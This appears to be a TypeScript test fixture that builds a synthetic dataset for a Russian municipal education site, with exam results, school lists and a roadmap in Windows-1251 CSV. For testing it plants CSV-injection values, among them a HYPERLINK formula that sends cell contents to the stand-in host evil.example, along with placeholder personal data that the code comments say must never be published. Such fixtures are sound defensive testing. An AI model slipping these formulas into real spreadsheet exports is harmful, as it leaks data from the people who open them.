/**
 * A small municipality that is not the demo: Windows-1251, «;», decimal
 * commas, Russian headers and subject names, a school name with markup
 * characters, and a roadmap transcribed from another seed (Кизляр).
 */
import { csv, makeData, toCp1251 } from './fixture.ts';

export const TRICKY_NAME = 'Школа <b>«Радуга»</b> & "Ко"';
/** Text a spreadsheet would run as a formula, in a school's name and in roadmap lines (CSV injection). */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"СОШ № 3")';
export const FORMULA_TEXTS = [FORMULA_NAME, '-Анализ результатов ОГЭ', '+управление образования', '@ОО'];
/** A formula behind the separator Russian Excel uses: a comma-separated file opened there splits it off. */
export const FORMULA_AFTER_SEPARATOR = 'управление образования;=1+1';
/** Personal data typed where it does not belong: an extra cell of the register, a report's notes. None may be published. */
export const PLANTED = ['Петров Пётр Петрович', '+7 912 345-67-89', 'ivanova.a@mail.example', '112-233-445 95'];

export function independentMunicipality(): string {
  const semi = (rows: (string | number)[][]) => toCp1251(rows.map((r) => r.join(';')).join('\r\n') + '\r\n');
  const ege: (string | number)[][] = [['Код участника', 'Код ОО', 'Предмет', 'Тестовый балл', 'Категория']];
  const oge: (string | number)[][] = [['Код участника', 'Код ОО', 'Предмет', 'Первичный балл', 'Отметка']];
  let id = 0;
  for (const [school, base] of [
    ['01', 60],
    ['02', 70],
    ['03', 50],
  ] as const) {
    for (let k = 0; k < 8; k++) {
      ege.push([++id, school, 'Русский язык', base + k, 'ВТГ']);
      ege.push([id, school, 'Математика (профильный уровень)', base - 10 + k, 'ВТГ']);
      const p = 12 + k + (school === '02' ? 8 : 0);
      oge.push([id, school, 'Математика', p, p >= 22 ? 5 : p >= 15 ? 4 : p >= 8 ? 3 : 2]);
    }
  }
  const diag = [
    ['Код участника', 'Код ОО', 'Работа', 'Класс', 'Первичный балл', 'Максимальный балл', 'Минимальный балл'],
    ...Array.from({ length: 6 }, (_, i) => [100 + i, '01', 'fg', 8, `${10 + i},5`, 20, 7]),
  ];
  const roadmap = [
    ['№ п/п', 'Раздел', 'Основные направления деятельности', 'Сроки реализации', 'Ответственные исполнители'],
    [
      '1.1',
      'Мониторинг качества обучения',
      'Анализ результатов ОГЭ-9 с учетом количества обучающихся, оставленных на повторное обучение',
      'По итогам учебного года',
      'управление образования, общеобразовательные организации',
    ],
    [
      '1.2',
      'Мониторинг качества обучения',
      'Анализ результатов ОГЭ в образовательных организациях (далее - ОО) с высокими результатами ОГЭ и с низкими результатами ОГЭ',
      'июль 2022',
      `"${FORMULA_AFTER_SEPARATOR}, общеобразовательные организации"`,
    ],
    [
      '1.3',
      'Мониторинг качества обучения',
      '-Анализ результатов ОГЭ, полученных участниками ОГЭ - лицами с ограниченными возможностями здоровья',
      'август 2022',
      '+управление образования, @ОО',
    ],
  ];
  const reports = [
    ['Пункт', 'Период', 'Статус', 'Примечание'],
    ['1.1', '2022-Q3', 'выполнено', `Справка подготовлена, тел. ответственного ${PLANTED[1]}, ${PLANTED[2]}`],
    ['1.2', '2022-Q3', 'выполняется', `СНИЛС ответственного ${PLANTED[3]}`],
  ];
  return makeData({
    'site.yaml':
      'municipality:\n  name: Городской округ «Город Кизляр»\n  genitive: городского округа «Город Кизляр»\n  region: Республика Дагестан\ndepartment:\n  name: Управление образования\nimc:\n  name: Информационно-методический центр\n  short: ИМЦ\nsite:\n  url: https://edu.example.ru\n',
    'schools.csv': semi([
      ['Код ОО', 'Краткое наименование', 'Тип'],
      ['01', TRICKY_NAME, 'СОШ'],
      ['02', 'Гимназия № 2', 'гимназия', PLANTED[0]],
      ['03', FORMULA_NAME, 'СОШ'],
    ]),
    'results/2021/ege.csv': semi(ege.map((r, i) => (i === 0 ? r : [r[0], r[1], r[2], Number(r[3]) - 2, r[4]]))),
    'results/2022/ege.csv': semi(ege),
    'results/2022/oge.csv': semi(oge),
    'results/2022/diagnostics.csv': semi(diag),
    'roadmap/2021-2022.csv': semi(roadmap),
    'roadmap/2021-2022.reports.csv': semi(reports),
    'targets.csv': csv([
      ['indicator', 'year', 'subject', 'grade', 'target', 'direction'],
      ['ege.mean', 2022, 'rus', '', 70, '>='],
    ]),
  });
}
